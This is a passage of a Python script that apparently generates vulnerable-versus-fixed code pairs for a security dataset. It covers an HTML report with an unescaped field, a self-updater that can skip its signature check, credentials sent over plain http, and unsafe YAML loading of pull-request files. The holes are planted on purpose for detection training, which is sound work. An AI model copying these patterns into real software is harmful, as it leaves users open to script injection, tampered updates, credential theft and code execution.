        P("image", rank=2, imp="import base64\nimport html", body='''
def embed_png(png: bytes, alt: str) -> str:
    """A screenshot attached by a test, inlined as a data: URI (base64 cannot break out of the attribute)."""
    return f'<img src="data:image/png;base64,{base64.b64encode(png).decode()}" alt="{html.escape(alt)}">'
'''),
        P("env", rank=2, imp="import html\nimport platform\nimport pytest", body='''
def environment_table(config: pytest.Config) -> str:
    """Python, platform and plugin versions, as an escaped two-column table."""
    items = {"Python": platform.python_version(), "Platform": platform.platform(), "pytest": pytest.__version__}
    for plugin, dist in config.pluginmanager.list_plugin_distinfo():
        items[dist.project_name] = dist.version
    cells = "".join(f"<tr><th>{html.escape(k)}</th><td>{html.escape(str(v))}</td></tr>" for k, v in items.items())
    return f'<table class="environment">{cells}</table>'
'''),
        P("header", rank=2, imp="import pytest", body='''
def pytest_report_header(config: pytest.Config) -> str | None:
    path = config.getoption("$dest")
    return f"$plug: writing the HTML report to {path}" if path else None
'''),
        P("terminal", rank=2, imp="import pytest", body='''
def pytest_terminal_summary(terminalreporter, exitstatus: int, config: pytest.Config) -> None:
    reporter = getattr(config, "$attr", None)
    if reporter is not None:
        terminalreporter.write_sep("-", f"HTML report: {reporter.path}")
'''),
        P("links", rank=2, imp="import html\nfrom urllib.parse import quote", body='''
def artifact_links(names: list[str], base: str = "artifacts/") -> str:
    """Links to files a test attached (screenshots, logs); names are percent-quoted in the href."""
    return "".join(f'<a href="{base}{quote(name)}">{html.escape(name)}</a> ' for name in names)
'''),
    ]
    return core, pool


@fam("mod33s-pytest-html-report-unescaped-field", "CWE-79", fws=["script"], n=_N_PAIRS, wrap=False)
def mod33s_report(c):
    kw = _rep_kw(c)
    target = c.pick(*_REP_SPOTS)
    core, pool = _rep_parts(c, target)
    sp = _REP_SPOTS[target]
    v, s = _pair(c, c.pick(*_REP_DOCS), "", core, pool, kw, sp["v"], c.pick(*sp["s"]), lo=96, hi=126)
    return Spec(v=v, s=s, full=True, fw="script",
                notes=sp["what"] + "; test data and output often carry strings from the system under test (scraped "
                      "pages, API answers, fixture files), and the report is published as a CI artefact or page, so "
                      "markup in them runs as script for whoever opens it; every other field is escaped with "
                      "html.escape, and the fix escapes this one too")


@hardneg(_N_HN)
def mod33s_report_hn(c):
    kw = _rep_kw(c)
    target = c.pick(*_REP_SPOTS)
    core, pool = _rep_parts(c, target)
    code = _safe(c, c.pick(*_REP_DOCS), "", core, pool, kw, c.pick(*_REP_SPOTS[target]["s"]), lo=96, hi=126)
    return Spec(s=code, full=True, fw="script",
                notes="pytest HTML report plugin: test ids, outcomes, failure text and captured output escaped with "
                      "html.escape (quotes included in attributes), JSON in the script tag with < escaped, hrefs "
                      "percent-quoted, sha1(usedforsecurity=False) only for element ids, mkstemp + os.replace")


# ---------------- CWE-347: self-update of a CLI tool, the manifest signature check can be skipped ----------------

_UPD_DOCS = [
    "Self-update for the $tool command-line tool.\n\n"
    "The release channel publishes a JSON manifest (version, download URL, SHA-256 of the build) with a detached\n"
    "Ed25519 signature; the manifest is trusted only once the signature verifies with the release key below.",
    "``$tool self-update`` and the once-a-day \"new version available\" notice. Mirrors may serve the manifest\n"
    "($TOOL_UPDATE_URL), so its signature, not the transport, is what makes it trustworthy.",
    "Update checks and in-place upgrades of the frozen $tool binary (signed manifest, SHA-256 checked download).",
]


def _upd_kw(c):
    tool = c.pick("tidewater", "quarryctl", "lanternctl", "skiff", "dockhand", "fathom")
    return dict(tool=tool, TOOL=tool.upper(), log=c.pick("log", "logger"), ch=c.pick("stable", "releases", "latest"),
                host=c.pick("releases." + tool + ".dev", "dl." + tool + ".io", "get." + tool + ".sh"),
                key=c.pick("mKYRjEuAjn9oRnwbKQFSCUa+WnYmUO+5Ps7wf7NJqes=", "tbbvgptHD0cCyQBgq+xpDec+Vfwpmj6mYcD2k+gl1uI=",
                           "tQeCcMdRVGs74sMaBqHCpIkFjXCyft6bMQIDWDR4rPU="),
                maxmb=c.pick(80, 120, 200), every=c.pick(86400, 43200))


_UPD_VERIFY = '''
def fetch_manifest(session: requests.Session) -> dict:
    """The channel manifest, parsed only after its detached signature (``manifest.json.sig``) verifies."""
    resp = session.get(CHANNEL_URL, timeout=TIMEOUT)
    resp.raise_for_status()
    raw = resp.content
    sig = session.get(CHANNEL_URL + ".sig", timeout=TIMEOUT)
    $FIX
    manifest = json.loads(raw)$MARK
    if not {"version", "url", "sha256", "size"} <= manifest.keys():
        raise UpdateError("the release manifest is incomplete")
    return manifest
'''

_UPD_SPOTS = {
    "optional": dict(
        v='if sig.status_code != 404:  #@V\n'
          '        try:\n'
          '            RELEASE_KEY.verify(base64.b64decode(sig.content), raw)\n'
          '        except (InvalidSignature, ValueError):\n'
          '            raise UpdateError("the release manifest signature does not verify") from None',
        s=['try:\n'
           '        sig.raise_for_status()\n'
           '        RELEASE_KEY.verify(base64.b64decode(sig.content), raw)\n'
           '    except (requests.HTTPError, InvalidSignature, ValueError):\n'
           '        raise UpdateError("the release manifest is not signed with the release key") from None'],
        what="the updater verifies the manifest's Ed25519 signature only when the .sig file exists: a mirror or "
             "compromised release host that answers 404 for it gets an unsigned manifest accepted"),
    "logged": dict(
        v='try:\n'
          '        sig.raise_for_status()\n'
          '        RELEASE_KEY.verify(base64.b64decode(sig.content), raw)\n'
          '    except (requests.HTTPError, InvalidSignature, ValueError):\n'
          '        $log.warning("release manifest signature could not be verified")  #@V',
        s=['try:\n'
           '        sig.raise_for_status()\n'
           '        RELEASE_KEY.verify(base64.b64decode(sig.content), raw)\n'
           '    except (requests.HTTPError, InvalidSignature, ValueError):\n'
           '        raise UpdateError("the release manifest signature does not verify") from None'],
        what="the updater checks the manifest's Ed25519 signature but only logs a warning when it is missing or "
             "wrong, and goes on with the manifest"),
}


def _upd_parts(c, target):
    req = "import requests"
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import base64\nimport os\nfrom cryptography.hazmat.primitives.asymmetric.ed25519 import "
                                "Ed25519PublicKey", const='''
CHANNEL_URL = os.environ.get("$TOOL_UPDATE_URL", "https://$host/$ch/manifest.json")
RELEASE_KEY = Ed25519PublicKey.from_public_bytes(base64.b64decode("$key"))
TIMEOUT = (5, 60)
MAX_DOWNLOAD = $maxmb * 1024 * 1024'''),
        P("error", rank=1, body='''
class UpdateError(Exception):
    """An update that cannot be done safely; the running version stays in place."""
'''),
        P("verify", rank=2, imp="import base64\nimport json\n" + req + "\nfrom cryptography.exceptions import InvalidSignature",
          body=_UPD_VERIFY.replace("$MARK", "  #@V")),
        P("download", rank=2, imp="import hashlib\nimport hmac\nimport os\nimport tempfile\nfrom pathlib import Path\n"
                                  "from urllib.parse import urlsplit\n" + req, body=c.pick('''
def download(session: requests.Session, manifest: dict, directory: Path) -> Path:
    """Download the build to a temporary file (mode 0o600) in ``directory``, then check size and SHA-256."""
    if urlsplit(manifest["url"]).scheme != "https":
        raise UpdateError("the manifest points to a non-https download")
    fd, tmp = tempfile.mkstemp(dir=directory, prefix=".update-")
    with os.fdopen(fd, "wb") as fh, session.get(manifest["url"], stream=True, timeout=TIMEOUT) as resp:
        resp.raise_for_status()
        for chunk in resp.iter_content(1 << 16):
            fh.write(chunk)
            if fh.tell() > MAX_DOWNLOAD:
                break
    path = Path(tmp)
    with path.open("rb") as fh:
        digest = hashlib.file_digest(fh, "sha256").hexdigest()
    if path.stat().st_size > MAX_DOWNLOAD or not hmac.compare_digest(digest, manifest["sha256"]):
        path.unlink()
        raise UpdateError("the download is too large or does not match the manifest's SHA-256")
    return path
''', '''
def download(session: requests.Session, manifest: dict, directory: Path) -> Path:
    """Stream the build into a private temporary file next to the installed one; its SHA-256 must match."""
    if urlsplit(manifest["url"]).scheme != "https" or int(manifest["size"]) > MAX_DOWNLOAD:
        raise UpdateError("refusing the download location or size in the manifest")
    digest = hashlib.sha256()
    fd, tmp = tempfile.mkstemp(dir=directory, prefix=".update-")
    try:
        with os.fdopen(fd, "wb") as fh, session.get(manifest["url"], stream=True, timeout=TIMEOUT) as resp:
            resp.raise_for_status()
            for chunk in resp.iter_content(1 << 16):
                digest.update(chunk)
                fh.write(chunk)
        if not hmac.compare_digest(digest.hexdigest(), manifest["sha256"]):
            raise UpdateError("the download does not match the manifest's SHA-256")
    except BaseException:
        os.unlink(tmp)
        raise
    return Path(tmp)
''')),
        P("update", rank=3, needs=["current"], imp="import os\nimport shutil\nimport sys\nfrom pathlib import Path\n" + req +
          "\nfrom packaging.version import Version\nfrom . import __version__", body='''
def self_update(force: bool = False) -> bool:
    """Replace the running binary with the newest release; True when an update was installed."""
    target = installed_binary()
    with requests.Session() as session:
        session.headers["User-Agent"] = f"$tool/{__version__}"
        manifest = fetch_manifest(session)
        if not force and Version(manifest["version"]) <= Version(__version__):
            $log.info("$tool %s is up to date", __version__)
            return False
        new = download(session, manifest, target.parent)
    os.chmod(new, 0o755)
    shutil.copy2(target, target.with_name(target.name + ".old"))  # kept for a rollback
    os.replace(new, target)
    $log.info("updated $tool %s -> %s", __version__, manifest["version"])
    return True
'''),
    ]
    pool = [
        P("current", rank=1, imp="import sys\nfrom pathlib import Path", body='''
def installed_binary() -> Path:
    """The file to replace: the frozen executable, or the zipapp the tool runs from."""
    if getattr(sys, "frozen", False):
        return Path(sys.executable).resolve()
    return Path(sys.argv[0]).resolve()
'''),
        P("smoke", rank=2, imp="import subprocess\nfrom pathlib import Path", body='''
def smoke_test(binary: Path, expected: str) -> None:
    """Run the downloaded build once (argument list, no shell, timeout) and check the version it reports."""
    out = subprocess.run([str(binary), "--version"], capture_output=True, text=True, timeout=30, check=True).stdout
    if expected not in out:
        raise UpdateError(f"the new build reports {out.strip()!r}, expected {expected}")
'''),
        P("backup", rank=2, imp="import os\nfrom pathlib import Path", body='''
def rollback(target: Path) -> bool:
    """Put back the previous binary kept as ``<name>.old`` by the last update; True when there was one."""
    previous = target.with_name(target.name + ".old")
    if not previous.is_file():
        return False
    os.replace(previous, target)
    $log.info("restored the previous $tool binary")
    return True
'''),
        P("stale", rank=2, imp="import time\nfrom pathlib import Path", body='''
def remove_stale_downloads(directory: Path, max_age: int = 3600) -> int:
    """Delete ``.update-*`` files an interrupted update left next to the binary."""
    removed = 0
    for leftover in directory.glob(".update-*"):
        if leftover.is_file() and time.time() - leftover.stat().st_mtime > max_age:
            leftover.unlink(missing_ok=True)
            removed += 1
    return removed
'''),
        P("notes", rank=3, imp="import requests\nfrom urllib.parse import urlsplit", body='''
def release_notes(session: requests.Session, manifest: dict) -> str:
    """Plain-text notes of a release, from the same host as the (signed) manifest."""
    url = manifest.get("notes_url", "")
    if urlsplit(url).netloc != urlsplit(CHANNEL_URL).netloc:
        return ""
    resp = session.get(url, timeout=TIMEOUT)
    return resp.text[:4000] if resp.ok else ""
'''),
        P("state", rank=2, imp="import json\nimport os\nimport random\nimport time\nfrom pathlib import Path",
          const='STATE_FILE = Path(os.environ.get("XDG_STATE_HOME", Path.home() / ".local" / "state")) / "$tool" / "update-check.json"\n'
                "CHECK_EVERY = $every", body='''
def check_due() -> bool:
    """Whether the daily update check should run (spread with a little random jitter across users)."""
    try:
        last = json.loads(STATE_FILE.read_text(encoding="utf-8")).get("checked_at", 0)
    except (OSError, ValueError):
        last = 0
    return time.time() - last > CHECK_EVERY * random.uniform(0.9, 1.1)


def record_check(latest: str) -> None:
    """Remember when we last looked (user-private file, written with mode 0o600)."""
    STATE_FILE.parent.mkdir(parents=True, exist_ok=True)
    fd = os.open(STATE_FILE, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    with os.fdopen(fd, "w", encoding="utf-8") as fh:
        json.dump({"checked_at": int(time.time()), "latest": latest}, fh)
'''),
        P("notice", rank=3, needs=["state"], imp="import sys\n" + req + "\nfrom packaging.version import Version\n"
                                                  "from . import __version__", body='''
def maybe_notify() -> None:
    """Print a one-line notice on stderr when a newer signed release exists; never fails the command."""
    if os.environ.get("$TOOL_NO_UPDATE_CHECK") or not check_due():
        return
    try:
        with requests.Session() as session:
            latest = fetch_manifest(session)["version"]
    except (requests.RequestException, UpdateError) as exc:
        $log.debug("update check skipped: %s", exc)
        return
    record_check(latest)
    if Version(latest) > Version(__version__):
        print(f"$tool {latest} is available (you have {__version__}); run '$tool self-update'", file=sys.stderr)
'''),
    ]
    return core, pool


@fam("mod33s-self-update-manifest-signature-optional", "CWE-347", fws=["cli"], n=_N_PAIRS, wrap=False)
def mod33s_update(c):
    kw = _upd_kw(c)
    target = c.pick(*_UPD_SPOTS)
    core, pool = _upd_parts(c, target)
    sp = _UPD_SPOTS[target]
    v, s = _pair(c, c.pick(*_UPD_DOCS), '$log = logging.getLogger("$tool.update")', core, pool, kw, sp["v"],
                 c.pick(*sp["s"]))
    return Spec(v=v, s=s, full=True, fw="cli",
                notes=sp["what"] + "; the manifest names the download URL and its SHA-256, so whoever serves it "
                      "(a mirror set through the update-URL variable, a compromised CDN) ships a build of their own that "
                      "passes the hash check and replaces the binary; the fix refuses a manifest whose signature "
                      "is missing or does not verify")


@hardneg(_N_HN)
def mod33s_update_hn(c):
    kw = _upd_kw(c)
    target = c.pick(*_UPD_SPOTS)
    core, pool = _upd_parts(c, target)
    code = _safe(c, c.pick(*_UPD_DOCS), '$log = logging.getLogger("$tool.update")', core, pool, kw,
                 c.pick(*_UPD_SPOTS[target]["s"]))
    return Spec(s=code, full=True, fw="cli",
                notes="self-updater: Ed25519 signature of the manifest verified (missing or bad signature raises) "
                      "before json.loads, https-only download with size cap and timeouts, SHA-256 compared with "
                      "hmac.compare_digest, mkstemp next to the binary + os.replace, state file 0o600, random only "
                      "for check jitter")


# ---------------- CWE-319: search-cluster transport, credentials sent to an http:// node URL ----------------

_CL_DOCS = [
    "HTTP transport of $pkg for OpenSearch / Elasticsearch compatible clusters: node URLs, round-robin with\n"
    "dead-node back-off, authentication (basic or API key), and the few endpoints the indexer needs.",
    "Cluster transport used by the $pkg indexer and query layer. TLS is verified (system store or ca_certs);\n"
    "every request carries the cluster credentials and has a timeout.",
    "$Pkg search transport: a requests.Session shared by all nodes, retries on 502/503/504, NDJSON bulk requests.",
]


def _cl_kw(c):
    pkg = c.pick("quarrysearch", "findwell", "sift", "lookout", "indexa", "haystacker")
    return dict(pkg=pkg, Pkg=pkg.capitalize(), PKG=pkg.upper(), log=c.pick("log", "logger"),
                Transport=c.pick("Transport", "ClusterTransport", "NodePool"), tmo=c.pick(10, 20, 30),
                dead=c.pick(30, 60, 120), port=c.pick(9200, 9201, 9243))


_CL_SPOTS = {
    "bare": dict(
        v='return f"http://{name}:{port or DEFAULT_PORT}"  #@V',
        s=['return f"https://{name}:{port or DEFAULT_PORT}"'],
        what="a host configured without a scheme (the usual \"search-1:$port\" form) becomes an http:// URL"),
    "sniff": dict(
        v='found.append(f"http://{address}")  #@V',
        s=['found.append(f"https://{address}")'],
        what="node addresses learnt by sniffing (GET /_nodes/http) are turned into http:// URLs, whatever scheme "
             "the configured seed nodes use"),
}


def _cl_parts(c, target, hn=False):
    req = "import requests"
    fills = {k: ("$FIX" if k == target else c.pick(*sp["s"])) for k, sp in _CL_SPOTS.items()}
    # an explicit scheme is the operator's choice and is kept (safe); some modules refuse plain http:// outright,
    # in node_url or when credentials are set (the latter would also cover bare hosts, so never in a "bare" pair)
    guard = c.pick("none", "none", "url", "init") if hn or target != "bare" else c.pick("none", "none", "url")
    url_guard = ('if host.startswith("http://"):\n'
                 '        raise ValueError(f"refusing plain-http node {host}: the credentials would cross the network '
                 'in clear text")\n    ' if guard == "url" else "")
    init_guard = ('\n        if (basic_auth or api_key) and any(node.startswith("http://") for node in self.nodes):\n'
                  '            raise ValueError("credentials are only sent over https; configure https:// node URLs")'
                  if guard == "init" else "")
    ctx = '''
    def close(self) -> None:
        self.session.close()

    def __enter__(self) -> "$Transport":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
'''
    ping = '''
    def ping(self) -> bool:
        """Whether some node answers the root endpoint (errors are not raised)."""
        try:
            self.perform("HEAD", "/")
        except (TransportError, ValueError):
            return False
        return True
'''
    extra = c.pick("", ctx, ping, ctx + ping)
    auth_kind = c.pick("basic", "apikey")
    auth = ('if api_key:\n            self.session.headers["Authorization"] = f"ApiKey {api_key}"\n'
            '        elif basic_auth:\n            self.session.auth = basic_auth'
            if auth_kind == "apikey" else
            'if basic_auth:\n            self.session.auth = basic_auth\n'
            '        elif api_key:\n            self.session.headers["Authorization"] = f"ApiKey {api_key}"')
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import re", const='''
DEFAULT_PORT = $port
RETRY_STATUSES = frozenset({502, 503, 504})
DEAD_TIMEOUT = $dead
INDEX_RE = re.compile(r"[a-z0-9][a-z0-9._-]{0,254}")'''),
        P("error", rank=1, body='''
class TransportError(Exception):
    def __init__(self, status: int, reason: str) -> None:
        super().__init__(f"{status}: {reason}")
        self.status, self.reason = status, reason
'''),
        P("node_url", rank=1, body='''
def node_url(host: str) -> str:
    """Base URL of a node given as "name", "name:port" or a full URL (''' + ("plain http:// is refused" if url_guard else "used as it is") + ''')."""
    ''' + url_guard + '''if "://" in host:
        return host.rstrip("/")
    name, _, port = host.partition(":")
    ''' + fills["bare"] + '''
'''),
        P("transport", rank=2, imp="import itertools\nimport random\nimport time\nimport threading\n" + req, body='''
class $Transport:
    """Round-robin over the cluster's nodes; a node that fails is skipped for a while (with jitter)."""

    def __init__(self, hosts: list[str], *, basic_auth: tuple[str, str] | None = None, api_key: str | None = None,
                 ca_certs: str | None = None, timeout: float = $tmo) -> None:
        self.nodes = [node_url(h) for h in hosts]''' + init_guard + '''
        self.dead: dict[str, float] = {}
        self.timeout = timeout
        self.session = requests.Session()
        self.session.verify = ca_certs or True
        self.session.headers["Content-Type"] = "application/json"
        ''' + auth + '''
        self._lock = threading.Lock()
        self._cycle = itertools.cycle(range(len(self.nodes)))

    def _next_node(self) -> str:
        with self._lock:
            now = time.monotonic()
            for _ in range(len(self.nodes)):
                node = self.nodes[next(self._cycle) % len(self.nodes)]
                if self.dead.get(node, 0) <= now:
                    return node
            return random.choice(self.nodes)  # all marked dead: try one anyway

    def perform(self, method: str, path: str, *, params: dict | None = None, body: bytes | None = None) -> dict:
        """One request, retried on another node after a connection error or a 502/503/504."""
        for attempt in range(len(self.nodes) + 1):
            node = self._next_node()
            try:
                resp = self.session.request(method, node + path, params=params, data=body, timeout=self.timeout)
            except requests.ConnectionError:
                resp = None
            if resp is not None and resp.status_code not in RETRY_STATUSES:
                if resp.status_code >= 400:
                    raise TransportError(resp.status_code, resp.json().get("error", {}).get("type", "error"))
                return resp.json() if resp.content else {}
            with self._lock:
                self.dead[node] = time.monotonic() + DEAD_TIMEOUT * random.uniform(1.0, 1.5)
            $log.warning("node %s unavailable (attempt %d)", node, attempt + 1)
        raise TransportError(503, "no live node")
''' + extra + ('''
    def sniff(self) -> None:
        """Replace the node list with the HTTP publish addresses the cluster reports."""
        info = self.perform("GET", "/_nodes/http")
        found = []
        for node in info.get("nodes", {}).values():
            address = node.get("http", {}).get("publish_address", "").rpartition("/")[2]
            if address:
                ''' + fills["sniff"] + '''
        if found:
            with self._lock:
                self.nodes, self.dead = sorted(found), {}
                self._cycle = itertools.cycle(range(len(self.nodes)))
            $log.info("sniffed %d nodes", len(found))
''' if target == "sniff" or c.pick(True, False) else "")),
    ]
    pool = [
        P("search", rank=3, imp="import json", body='''
def search(transport: $Transport, index: str, query: dict, size: int = 20) -> list[dict]:
    """Hits of a query DSL body; the index name is checked, the body is serialised with json."""
    if not INDEX_RE.fullmatch(index):
        raise ValueError(f"invalid index name {index!r}")
    body = json.dumps({"query": query, "size": min(size, 500)}).encode()
    return transport.perform("POST", f"/{index}/_search", body=body)["hits"]["hits"]
'''),
        P("get", rank=3, imp="from urllib.parse import quote", body='''
def get_document(transport: $Transport, index: str, doc_id: str) -> dict | None:
    """One document by id (percent-quoted into the path), or None."""
    if not INDEX_RE.fullmatch(index):
        raise ValueError(f"invalid index name {index!r}")
    try:
        return transport.perform("GET", f"/{index}/_doc/{quote(doc_id, safe='')}")["_source"]
    except TransportError as exc:
        if exc.status == 404:
            return None
        raise
'''),
        P("bulk", rank=3, imp="import hashlib\nimport json", body='''
def bulk_index(transport: $Transport, index: str, docs: list[dict]) -> int:
    """Index documents with one NDJSON _bulk request; ids are content fingerprints, so re-runs overwrite."""
    lines = []
    for doc in docs:
        payload = json.dumps(doc, sort_keys=True, separators=(",", ":"))
        doc_id = hashlib.sha1(payload.encode(), usedforsecurity=False).hexdigest()
        lines += [json.dumps({"index": {"_index": index, "_id": doc_id}}), payload]
    result = transport.perform("POST", "/_bulk", body=("\\n".join(lines) + "\\n").encode())
    failed = [item for item in result.get("items", []) if item.get("index", {}).get("error")]
    if failed:
        $log.error("%d of %d documents were rejected", len(failed), len(docs))
    return len(docs) - len(failed)
'''),
        P("env", rank=3, imp="import os", body='''
def from_env() -> $Transport:
    """A transport configured from $PKG_HOSTS (comma separated), $PKG_API_KEY or $PKG_USER / $PKG_PASSWORD."""
    user = os.environ.get("$PKG_USER")
    return $Transport(
        [h.strip() for h in os.environ["$PKG_HOSTS"].split(",") if h.strip()],
        api_key=os.environ.get("$PKG_API_KEY"),
        basic_auth=(user, os.environ["$PKG_PASSWORD"]) if user else None,
        ca_certs=os.environ.get("$PKG_CA_CERTS"),
    )
'''),
        P("count", rank=3, imp="import json", body='''
def count(transport: $Transport, index: str, query: dict | None = None) -> int:
    """Number of documents matching a query (all documents without one)."""
    if not INDEX_RE.fullmatch(index):
        raise ValueError(f"invalid index name {index!r}")
    body = json.dumps({"query": query}).encode() if query else None
    return transport.perform("POST" if body else "GET", f"/{index}/_count", body=body)["count"]
'''),
        P("alias", rank=3, imp="import json", body='''
def swap_alias(transport: $Transport, alias: str, old: str, new: str) -> None:
    """Point ``alias`` from the old index to the new one in one atomic _aliases request."""
    for name in (alias, old, new):
        if not INDEX_RE.fullmatch(name):
            raise ValueError(f"invalid index or alias name {name!r}")
    actions = [{"remove": {"index": old, "alias": alias}}, {"add": {"index": new, "alias": alias}}]
    transport.perform("POST", "/_aliases", body=json.dumps({"actions": actions}).encode())
    $log.info("alias %s now points to %s (was %s)", alias, new, old)
'''),
        P("health", rank=3, body='''
def wait_for_green(transport: $Transport, timeout: str = "30s") -> str:
    """Cluster health, waiting up to ``timeout`` for status green (yellow is returned as it is)."""
    return transport.perform("GET", "/_cluster/health", params={"wait_for_status": "green", "timeout": timeout})["status"]
'''),
    ]
    return core, pool


@fam("mod33s-search-cluster-transport-plain-http", "CWE-319", fws=["script"], n=_N_PAIRS, wrap=False)
def mod33s_cluster(c):
    kw = _cl_kw(c)
    target = c.pick(*_CL_SPOTS)
    core, pool = _cl_parts(c, target)
    sp = _CL_SPOTS[target]
    v, s = _pair(c, c.pick(*_CL_DOCS), '$log = logging.getLogger("$pkg.transport")', core, pool, kw, sp["v"],
                 c.pick(*sp["s"]))
    return Spec(v=v, s=s, full=True, fw="sdk",
                notes=_web.fill(sp["what"], **kw) + "; the session attaches the basic-auth credentials or the API key "
                      "to every request, so they cross the network in clear text along with the indexed data, and "
                      "anyone on the path can read them and take over the cluster account; the fix uses https (the "
                      "session verifies certificates)")


@hardneg(_N_HN)
def mod33s_cluster_hn(c):
    kw = _cl_kw(c)
    target = c.pick(*_CL_SPOTS)
    core, pool = _cl_parts(c, target, hn=True)
    code = _safe(c, c.pick(*_CL_DOCS), '$log = logging.getLogger("$pkg.transport")', core, pool, kw,
                 c.pick(*_CL_SPOTS[target]["s"]))
    return Spec(s=code, full=True, fw="sdk",
                notes="cluster transport: https node URLs (bare hosts and sniffed addresses; a full URL the operator writes "
                      "out is kept as configured, or refused when it is plain http://), session.verify left on "
                      "or set to a CA bundle, timeouts on every request, random only for dead-node back-off jitter, "
                      "sha1(usedforsecurity=False) only for document ids, index names full-matched, ids percent-quoted")


# ---------------- CWE-502: pull-request labelling bot, rules from the PR head parsed with an unsafe loader -------

_LB_DOCS = [
    "Path-based labels (and reviewer requests) for pull requests.\n\n"
    "The rules live in the repository ($cfg); for a preview the bot reads them from the pull request's head\n"
    "commit, so the YAML is untrusted input and is parsed with the safe loader into plain data.",
    "$Bot rules engine: load the YAML rules of a repository, match them against a pull request's changed files,\n"
    "apply the labels through the REST API.",
    "Webhook handling of $bot (signature check, pull_request events, label and reviewer rules from $cfg).",
]


def _lb_kw(c):
    bot = c.pick("labelbot", "prsorter", "triagebot", "tagalong", "areabot")
    return dict(bot=bot, Bot=bot.capitalize(), BOT=bot.upper(), log=c.pick("log", "logger"),
                cfg=c.pick(".github/" + bot + ".yml", ".github/labels.yml", "." + bot + ".yaml"),
                own=c.pick(".github/reviewers.yml", ".github/" + bot + "-owners.yml"),
                api=c.pick("https://api.github.com", "https://git.example.org/api/v3", "https://forge.internal/api/v1"),
                maxkb=c.pick(64, 128), maxp=c.pick(10, 30))


_LB_SPOTS = {
    "rules": dict(
        v=['data = yaml.load(text, Loader=yaml.Loader) or {}  #@V', 'data = yaml.unsafe_load(text) or {}  #@V',
           'data = yaml.load(text, Loader=yaml.UnsafeLoader) or {}  #@V'],
        s=['data = yaml.safe_load(text) or {}', 'data = yaml.load(text, Loader=yaml.SafeLoader) or {}'],
        src='rules = load_rules(fetch_text(session, repo, RULES_PATH, head))',
        what="the label rules read from the pull request's head commit are parsed with a loader that builds "
             "arbitrary Python objects"),
    "owners": dict(
        v=['owners = yaml.load(text, Loader=yaml.Loader) or {}  #@V', 'owners = yaml.unsafe_load(text) or {}  #@V'],
        s=['owners = yaml.safe_load(text) or {}', 'owners = yaml.load(text, Loader=yaml.CSafeLoader) or {}'],
        src='owners = load_owners(fetch_text(session, repo, OWNERS_PATH, head))',
        what="the reviewer map read from the pull request's head commit is parsed with a loader that builds "
             "arbitrary Python objects"),
}


def _lb_parts(c, target):
    req = "import requests"
    fills = {k: ("$FIX" if k == target else c.pick(*sp["s"])) for k, sp in _LB_SPOTS.items()}
    handle_src = {k: _mark(sp["src"], k == target, "  #@S") for k, sp in _LB_SPOTS.items()}
    core = [
        P("logging", rank=0, imp="import logging"),
        P("consts", rank=0, imp="import re", const='''
API = "$api"
RULES_PATH = "$cfg"
OWNERS_PATH = "$own"
MAX_CONFIG_BYTES = $maxkb * 1024
TIMEOUT = (5, 20)
LABEL_RE = re.compile(r"[\\w .:/-]{1,50}")'''),
        P("fetch", rank=1, imp="from urllib.parse import quote\n" + req, body='''
def fetch_text(session: requests.Session, repo: str, path: str, ref: str) -> str:
    """A file of the repository at ``ref`` (raw contents API); empty when it does not exist."""
    resp = session.get(f"{API}/repos/{repo}/contents/{quote(path)}", params={"ref": ref},
                       headers={"Accept": "application/vnd.github.raw"}, timeout=TIMEOUT)
    if resp.status_code == 404:
        return ""
    resp.raise_for_status()
    if len(resp.content) > MAX_CONFIG_BYTES:
        raise ValueError(f"{path} is larger than {MAX_CONFIG_BYTES} bytes")
    return resp.text
'''),
        P("rules", rank=1, imp="import yaml", body='''
def load_rules(text: str) -> dict[str, tuple[str, ...]]:
    """Label -> glob patterns, from YAML such as ``docs: ["docs/**", "*.md"]``."""
    ''' + fills["rules"] + '''
    rules = {}
    for label, patterns in (data.items() if isinstance(data, dict) else ()):
        if not isinstance(label, str) or not LABEL_RE.fullmatch(label):
            $log.warning("ignoring rule with invalid label %r", label)
            continue
        rules[label] = tuple(str(p) for p in ([patterns] if isinstance(patterns, str) else patterns or ()))
    return rules
'''),
        P("owners", rank=1, imp="import yaml", body='''
def load_owners(text: str) -> dict[str, list[str]]:
    """Glob pattern -> reviewer logins, from the owners file."""
    ''' + fills["owners"] + '''
    if not isinstance(owners, dict):
        return {}
    return {str(pattern): [str(login) for login in logins or ()] for pattern, logins in owners.items()}
'''),
        P("handle", rank=3, imp="import fnmatch\n" + req, needs=["changed"], body='''
def handle_pull_request(event: dict, session: requests.Session) -> list[str]:
    """Label an opened or updated pull request from the rules at its head commit; ask the matching owners for review."""
    pr, repo = event["pull_request"], event["repository"]["full_name"]
    head = pr["head"]["sha"]
    ''' + handle_src["rules"] + '''
    ''' + handle_src["owners"] + '''
    files = changed_files(session, repo, pr["number"])
    labels = sorted(label for label, patterns in rules.items()
                    if any(fnmatch.fnmatch(name, pattern) for name in files for pattern in patterns))
    if labels:
        session.post(f"{API}/repos/{repo}/issues/{pr['number']}/labels", json={"labels": labels},
                     timeout=TIMEOUT).raise_for_status()
    reviewers = sorted({login for pattern, logins in owners.items() if any(fnmatch.fnmatch(f, pattern) for f in files)
                        for login in logins} - {pr["user"]["login"]})
    if reviewers:
        session.post(f"{API}/repos/{repo}/pulls/{pr['number']}/requested_reviewers",
                     json={"reviewers": reviewers[:10]}, timeout=TIMEOUT)
    $log.info("%s#%d: labels %s, reviewers %s", repo, pr["number"], labels, reviewers)
    return labels
'''),
    ]
    pool = [
        P("changed", rank=2, imp=req, const="MAX_PAGES = $maxp", body='''
def changed_files(session: requests.Session, repo: str, number: int) -> list[str]:
    """Paths the pull request touches (100 per page, at most MAX_PAGES pages)."""
    names: list[str] = []
    for page in range(1, MAX_PAGES + 1):
        resp = session.get(f"{API}/repos/{repo}/pulls/{number}/files", params={"per_page": 100, "page": page},
                           timeout=TIMEOUT)
        resp.raise_for_status()
        batch = resp.json()
        names += [item["filename"] for item in batch]
        if len(batch) < 100:
            break
    return names
'''),
        P("verify", rank=2, imp="import hashlib\nimport hmac", body='''
def signature_valid(secret: bytes, body: bytes, header: str | None) -> bool:
    """GitHub-style ``X-Hub-Signature-256``: HMAC-SHA256 of the raw body, compared in constant time."""
    if not header or not header.startswith("sha256="):
        return False
    expected = hmac.new(secret, body, hashlib.sha256).hexdigest()
    return hmac.compare_digest(expected, header.removeprefix("sha256="))
'''),
